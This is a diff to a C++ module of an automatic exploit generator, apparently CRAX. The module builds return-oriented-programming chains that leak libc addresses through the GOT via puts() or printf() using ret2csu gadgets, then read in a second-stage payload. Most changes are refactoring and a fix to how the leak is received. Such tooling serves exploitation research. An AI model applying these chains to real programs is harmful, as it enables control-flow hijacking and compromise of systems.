@@ -71,14 +71,30 @@ std::vector<RopPayload> GotLeakLibc::getRopPayloadList() const {
 
     ret.push_back({
         LambdaExpr::create([&exploit, &libc, targetSym]() {
+            // Both puts() and printf("%s\n") print the 6 non-null bytes of
+            // the leaked address, followed by '\n'. The address itself may
+            // contain 0x0a, so it's received by length rather than until '\n'.
             exploit.writeLeakLibcBase(libc.symbols().at(targetSym));
-            exploit.writeline();
+            exploit.writeRecv(1);
+            exploit.writeBlankLine();
         })
     });
 
     return ret;
 }
 
+std::vector<uint64_t>
+GotLeakLibc::getReadLengthList(const std::vector<RopPayload> &) const {
+    const ELF &elf = g_crax->getExploit().getElf();
+
+    // When printf() is used, the format string "%s\n\x00"
+    // is read by read(0, elf_base + got_leak_libc_fmt_str, 4).
+    if (!elf.hasSymbol("puts") && elf.hasSymbol("printf")) {
+        return { 0, 4, 0 };
+    }
+    return {};
+}
+
 
 std::vector<RopPayload>
 GotLeakLibc::getRopPayloadListForPuts(const std::string &targetSym) const {
@@ -103,23 +119,23 @@ GotLeakLibc::getRopPayloadListForPuts(const std::string &targetSym) const {
     if (elf.hasSymbol("read")) {
         part2 = ret2csu->getRopPayloadList(
                 BaseOffsetExpr::create<BaseType::SYM>(elf, "read"),
-                ConstantExpr::create(0, Expr::Int64),
+                createInt64Constant(0),
                 PlaceholderExpr<uint64_t>::create(ropReadDstOffset),
-                ConstantExpr::create(0x400, Expr::Int64))[0];
+                createInt64Constant(0x400))[0];
 
     } else if (elf.hasSymbol("gets")) {
         part2 = ret2csu->getRopPayloadList(
                 BaseOffsetExpr::create<BaseType::SYM>(elf, "gets"),
                 PlaceholderExpr<uint64_t>::create(ropReadDstOffset),
-                ConstantExpr::create(0, Expr::Int64),
-                ConstantExpr::create(0, Expr::Int64))[0];
+                createInt64Constant(0),
+                createInt64Constant(0))[0];
     }
 
 
     RopPayload ret;
 
     ret.reserve(1 + part1.size() + part2.size());
-    ret.push_back(ConstantExpr::create(0, Expr::Int64));  // RBP
+    ret.push_back(createInt64Constant(0));  // RBP
     ret.insert(ret.end(), part1.begin(), part1.end());
     ret.insert(ret.end(), part2.begin(), part2.end());
 
@@ -142,23 +158,23 @@ GotLeakLibc::getRopPayloadListForPrintf(const std::string &targetSym) const {
 
     RopPayload part1 = ret2csu->getRopPayloadList(
         BaseOffsetExpr::create<BaseType::SYM>(elf, "read"),
-        ConstantExpr::create(0, Expr::Int64),
+        createInt64Constant(0),
         BaseOffsetExpr::create<BaseType::VAR>(elf, "got_leak_libc_fmt_str"),
-        ConstantExpr::create(fmtStr.size(), Expr::Int64))[0];
+        createInt64Constant(fmtStr.size()))[0];
 
     // read(0, 0, 0), setting RAX to 0 and RDI to 1.
     RopPayload part2 = ret2csu->getRopPayloadList(
         BaseOffsetExpr::create<BaseType::SYM>(elf, "read"),
-        ConstantExpr::create(1, Expr::Int64),
-        ConstantExpr::create(0, Expr::Int64),
-        ConstantExpr::create(0, Expr::Int64))[0];
+        createInt64Constant(1),
+        createInt64Constant(0),
+        createInt64Constant(0))[0];
 
     // Set RSI to elf.got['read'], returning to `pop rdi ; ret`.
     RopPayload part3 = ret2csu->getRopPayloadList(
         BaseOffsetExpr::create<BaseType::VAR>(elf, Exploit::toVarName(elf, "pop rdi ; ret")),
-        ConstantExpr::create(0, Expr::Int64),
+        createInt64Constant(0),
         BaseOffsetExpr::create<BaseType::GOT>(elf, targetSym),
-        ConstantExpr::create(0, Expr::Int64))[0];
+        createInt64Constant(0))[0];
 
     RopPayload part4 = {
         BaseOffsetExpr::create<BaseType::VAR>(elf, "got_leak_libc_fmt_str"),
@@ -173,16 +189,16 @@ GotLeakLibc::getRopPayloadListForPrintf(const std::string &targetSym) const {
 
     RopPayload part5 = ret2csu->getRopPayloadList(
         BaseOffsetExpr::create<BaseType::SYM>(elf, "read"),
-        ConstantExpr::create(0, Expr::Int64),
+        createInt64Constant(0),
         PlaceholderExpr<uint64_t>::create(ropReadDstOffset),
-        ConstantExpr::create(0x400, Expr::Int64))[0];
+        createInt64Constant(0x400))[0];
 
 
     RopPayload ret1;
     RopPayload ret2 = { ByteVectorExpr::create(fmtStr) };
 
     ret1.reserve(1 + part1.size() + part2.size() + part3.size() + part4.size() + part5.size());
-    ret1.push_back(ConstantExpr::create(0, Expr::Int64));  // RBP
+    ret1.push_back(createInt64Constant(0));  // RBP
     ret1.insert(ret1.end(), part1.begin(), part1.end());
     ret1.insert(ret1.end(), part2.begin(), part2.end());
     ret1.insert(ret1.end(), part3.begin(), part3.end());